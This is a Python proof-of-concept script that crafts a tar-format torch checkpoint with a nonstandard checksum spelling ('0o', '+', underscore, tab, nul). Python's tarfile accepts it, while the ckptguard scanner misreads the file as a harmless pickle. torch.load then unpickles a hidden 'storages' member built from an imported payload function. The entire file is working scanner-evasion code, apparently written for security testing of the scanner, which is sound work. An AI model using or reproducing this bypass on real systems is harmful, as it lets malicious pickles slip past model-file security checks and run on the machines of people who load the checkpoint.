#!/usr/bin/python3
"""A legacy (tar) torch checkpoint the scanner does not recognise as a tar.
The first header's checksum field is spelled b"0o" + 6 octal digits: Python's tarfile (nti ->
int(s, 8)) accepts the 0o prefix; ckptguard's TarChecksumOk (lib/formats/src/archive_reader.cc)
accepts only octal digits, so DetectArchive says "not a tar" and the file is scanned as a pickle --
the first header's name field, a benign pickle.  torch.load tries tarfile first for any non-zip
file, finds member 'storages' and pickle.load()s it.
Usage: tar_chksum_spelling.py OUT MARKER [0o|plus|underscore|tab|nul]"""
import sys
from tarblocks import payload
def header(name, size, style=None, magic=True):
    h = bytearray(512)
    h[0:len(name)] = name
    h[100:108] = b'0000644\0'; h[108:116] = b'0000000\0'; h[116:124] = b'0000000\0'
    h[124:136] = b'%011o\0' % size
    h[136:148] = b'00000000000\0'
    h[156:157] = b'0'
    if magic:
        h[257:263] = b'ustar\0'; h[263:265] = b'00'
    h[148:156] = b' ' * 8
    s = sum(h)
    h[148:156] = {None: b'%06o\0 ', '0o': b'0o%06o', 'plus': b'+%06o\0', 'underscore': b'0_%06o',
                  'tab': b'\t%06o\0', 'nul': b'%06o\0' + b'9'}[style] % s
    return bytes(h)
def member(name, data, style=None, magic=True):
    return header(name, len(data), style, magic) + data + b'\0' * ((-len(data)) % 512)
def build(marker, style='0o'):
    decoy = b'}.'      # what the scanner reads: a pickle of {} (the name field of header 0)
    return member(decoy, b'', style) + member(b'storages', payload(marker)) + b'\0' * 1024
if __name__ == '__main__':
    open(sys.argv[1], 'wb').write(build(sys.argv[2], sys.argv[3] if len(sys.argv) > 3 else '0o'))
